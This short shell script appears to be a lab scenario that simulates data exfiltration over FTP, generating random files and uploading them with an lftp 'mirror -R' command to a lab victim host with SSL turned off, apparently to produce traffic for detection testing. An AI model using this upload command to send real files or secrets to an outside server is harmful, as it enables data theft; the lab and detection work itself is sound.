# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-lftp
# needs: lftp
# seconds: 90
# Files leave by ftp.
. $lab/victims.sh

servers() {
	victim_ftp t
	# shellcheck disable=SC2154
	mkdir -p "$work/files"
}

scenario() {
	_count=$(choose 3 12)
	setting options "$_count files"
	for _i in $(seq "$_count"); do
		blob "$work/files/f$_i" "$(pick 300000 1500000)"
	done
	sleep 3
	attack f t tcp 0 -- timeout 70 lftp -u "lab,$victim_password" \
		-e "set ftp:ssl-allow no; mirror -R $work/files up; bye" "$(addr t)"
}
